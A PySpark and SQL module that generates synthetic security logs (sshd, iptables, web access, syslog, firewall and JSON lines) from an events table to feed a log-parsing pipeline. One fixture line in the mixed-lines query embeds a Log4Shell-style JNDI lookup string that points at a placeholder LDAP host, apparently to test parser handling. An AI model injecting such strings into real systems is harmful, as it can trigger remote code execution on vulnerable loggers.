"""Log views over the events table: structured events and the raw lines that write them, with the same SQL for checks."""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

REFERENCE = "2024-12-31 00:00:00"

#: Both views; the text is valid Spark SQL and DuckDB SQL but for the time formats, which are put in.
_BASE = """
SELECT event_id, user_id, ts,
    concat('10.20.', CAST(CAST(floor((user_id % 16) / 8) AS BIGINT) AS VARCHAR(20)), '.', CAST(user_id % 16 + 1 AS VARCHAR(20))) AS source_ip,
    concat('host-', CAST(event_id % 5 AS VARCHAR(20))) AS host,
    concat('user', CAST(user_id AS VARCHAR(20))) AS username,
    CASE event_type WHEN 'error' THEN 'authentication_failure' WHEN 'signup' THEN 'authentication_success'
        WHEN 'view' THEN CASE WHEN event_id % 2 = 0 THEN 'connection_denied' ELSE 'connection_allowed' END
        WHEN 'click' THEN 'http_request' ELSE 'generic' END AS event_type,
    CASE event_type WHEN 'error' THEN 'linux' WHEN 'signup' THEN 'linux' WHEN 'view' THEN 'firewall' WHEN 'click' THEN 'web' ELSE 'app' END AS source,
    CAST(1024 + event_id % 60000 AS INT) AS source_port,
    CAST(CASE WHEN event_type = 'view' THEN CASE event_id % 4 WHEN 0 THEN 22 WHEN 1 THEN 80 WHEN 2 THEN 443 ELSE 8080 END END AS INT) AS destination_port,
    CAST(CASE WHEN event_type = 'click' THEN 200 + 100 * (event_id % 4) END AS INT) AS response_code,
    CASE WHEN event_type = 'view' THEN CASE WHEN event_id % 2 = 0 THEN 'medium' ELSE 'info' END
        WHEN event_type = 'click' THEN CASE event_id % 4 WHEN 3 THEN 'high' WHEN 2 THEN 'medium' END
        WHEN event_type = 'purchase' THEN CASE event_id % 5 WHEN 2 THEN 'low' WHEN 3 THEN 'medium' WHEN 4 THEN 'high' ELSE 'info' END END AS severity,
    CASE event_type WHEN 'error' THEN 'login' WHEN 'signup' THEN 'login' WHEN 'view' THEN CASE WHEN event_id % 2 = 0 THEN 'deny' ELSE 'allow' END
        WHEN 'click' THEN 'request' END AS action,
    CASE event_type WHEN 'error' THEN 'failure' WHEN 'signup' THEN 'success'
        WHEN 'view' THEN CASE WHEN event_id % 2 = 0 THEN 'blocked' ELSE 'allowed' END
        WHEN 'click' THEN CASE WHEN event_id % 4 >= 2 THEN 'failure' ELSE 'success' END END AS status,
    CASE event_id % 5 WHEN 0 THEN 'debug' WHEN 1 THEN 'info' WHEN 2 THEN 'notice' WHEN 3 THEN 'warn' ELSE 'error' END AS level,
    event_type AS kind
FROM events
"""

_LINES = """
SELECT event_id, source, CASE
    WHEN kind IN ('error', 'signup') THEN concat({bsd}, ' ', host, ' sshd[', CAST(event_id AS VARCHAR(20)), ']: ',
        CASE WHEN kind = 'error' THEN 'Failed' ELSE 'Accepted' END, ' password for ', username, ' from ', source_ip, ' port ',
        CAST(source_port AS VARCHAR(20)), ' ssh2')
    WHEN kind = 'view' THEN concat({bsd}, ' ', host, ' kernel: [1.5] IPTABLES ', CASE WHEN event_id % 2 = 0 THEN 'DROP' ELSE 'ACCEPT' END,
        ' IN=eth0 OUT= SRC=', source_ip, ' DST=203.0.113.', CAST(event_id % 5 + 1 AS VARCHAR(20)), ' LEN=60 PROTO=TCP SPT=',
        CAST(source_port AS VARCHAR(20)), ' DPT=', CAST(destination_port AS VARCHAR(20)))
    WHEN kind = 'click' THEN concat(source_ip, ' - ', username, ' [', {access}, ' +0000] "GET /item/', CAST(event_id % 100 AS VARCHAR(20)),
        ' HTTP/1.1" ', CAST(response_code AS VARCHAR(20)), ' ', CAST(event_id AS VARCHAR(20)), ' "-" "agent/1.0"')
    ELSE concat('{{"ts":"', {iso}, 'Z","level":"', level, '","logger":"shop","event":"purchase","user":"', username, '","src_ip":"',
        source_ip, '","msg":"order ', CAST(event_id AS VARCHAR(20)), '"}}') END AS content
FROM log_events
"""

#: Lines of the other kinds, and some that do not become events, by event_id % 12.
_MIXED = """
SELECT event_id, CASE event_id % 12
    WHEN 0 THEN concat('<34>1 ', {iso}, 'Z ', host, ' app 7 ID47 - job ', CAST(event_id AS VARCHAR(20)), ' finished')
    WHEN 1 THEN concat(source_ip, ' - ', username, ' [', {access}, ' +0000] "POST /n HTTP/1.1" ', CASE WHEN event_id % 5 = 0 THEN '999' ELSE '404' END, ' ',
        CAST(event_id AS VARCHAR(20)), ' "-" "agent/2.0" "-" rt=0.010 uct="0.001" urt="0.009"')
    WHEN 2 THEN concat('date=2024-03-04 time=06:07:08 devname=fw-9 action=deny srcip=', source_ip, ' dstip=203.0.113.7 srcport=', CAST(source_port AS VARCHAR(20)),
        ' dstport=22 proto=6 session=', CAST(event_id AS VARCHAR(20)))
    WHEN 3 THEN concat('{{"ts":"', {iso}, 'Z","event":"login_failed","actor":{{"user":"', username, '","from":{{"net":{{"ip":"', source_ip, '"}}}}}},"n":', CAST(event_id AS VARCHAR(20)), '}}')
    WHEN 4 THEN concat({bsd}, ' ', host, ' su: pam_unix(su:auth): authentication failure; logname= uid=0 tty=pts/', CAST(event_id AS VARCHAR(20)), ' ruser= rhost=', source_ip, '  user=', username)
    WHEN 5 THEN concat({bsd}, ' ', host, ' sudo: ', username, ' : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/ls ', CAST(event_id AS VARCHAR(20)))
    WHEN 6 THEN concat({bsd}, ' ', host, ' sshd[', CAST(event_id AS VARCHAR(20)), ']: Invalid user ', username, ' from ', source_ip, ' port ', CAST(source_port AS VARCHAR(20)))
    WHEN 7 THEN concat({bsd}, ' ', host, ' sshd[', CAST(event_id AS VARCHAR(20)), ']: pam_unix(sshd:session): session opened for user ', username, ' by (uid=0)')
    WHEN 8 THEN '  '
    WHEN 9 THEN concat('user=x agent=${{jndi:ldap://203.0.113.', CAST(event_id AS VARCHAR(20)), '/a}}')
    WHEN 10 THEN 'the same line again and again'
    ELSE concat('plain words about number ', CAST(event_id AS VARCHAR(20))) END AS content
FROM log_events
"""

LOG_EVENTS_SQL = _BASE
_TIMES = {"bsd": "strftime(ts, '%b %d %H:%M:%S')", "access": "strftime(ts, '%d/%b/%Y:%H:%M:%S')", "iso": "strftime(ts, '%Y-%m-%dT%H:%M:%S')"}
LOG_LINES_SQL = _LINES.format(**_TIMES)
#: Opens a WITH clause that defines both views for DuckDB.
WITH_EVENTS = f"WITH log_events AS ({LOG_EVENTS_SQL})"
WITH_LINES = f"{WITH_EVENTS}, log_lines AS ({LOG_LINES_SQL})"
WITH_MIXED = f"{WITH_EVENTS}, mixed_lines AS ({_MIXED.format(**_TIMES)})"


def log_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Structured events, one row per row of events; timestamp is ts."""
    events = spark.read.parquet(f"{sf_dir}/events.parquet")
    return spark.sql(_BASE.replace("FROM events", "FROM {events}"), events=events).withColumn("timestamp", F.col("ts").cast("timestamp"))


def log_lines(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Raw lines: event_id, source, content."""
    return _written(spark, sf_dir, _LINES)


def _written(spark: SparkSession, sf_dir: str, lines: str) -> DataFrame:
    """A view of lines, dealt out."""
    # the doubled braces of JSON lines are taken apart by spark.sql itself
    times = {"{bsd}": "date_format(ts, 'MMM dd HH:mm:ss')", "{access}": "date_format(ts, 'dd/MMM/yyyy:HH:mm:ss')", "{iso}": "date_format(ts, \"yyyy-MM-dd'T'HH:mm:ss\")"}
    text = lines.replace("FROM log_events", "FROM {log_events}")
    for name, expression in times.items():
        text = text.replace(name, expression)
    return spark.sql(text, log_events=dealt(spark, sf_dir, log_events(spark, sf_dir)))


#: Lines that a task reads and parses.
TASK_LINES = 50_000


def dealt(spark: SparkSession, sf_dir: str, rows: DataFrame) -> DataFrame:
    """rows of the events, dealt out where the table has few files, as one file may be one task: to as many tasks as there are cores, and to more where the
    table is larger. Parquet files know their number of rows."""
    events, n = spark.read.parquet(f"{sf_dir}/events.parquet"), spark.sparkContext.defaultParallelism
    n = max(n, -(-events.count() // TASK_LINES))
    return rows.repartition(n) if len(events.inputFiles()) < n else rows


def raw_logs(spark: SparkSession, sf_dir: str, mixed: bool = False) -> DataFrame:
    """log_lines, or the lines of other kinds, as the pipeline's input: job_id, source_name, line_number, content, received_at."""
    lines = _written(spark, sf_dir, _MIXED).withColumn("source", F.lit("mixed")) if mixed else log_lines(spark, sf_dir)
    return lines.select(
        F.lit("job-1").alias("job_id"), F.col("source").alias("source_name"), F.col("event_id").alias("line_number"), "content", F.lit(REFERENCE).cast("timestamp").alias("received_at")
    )
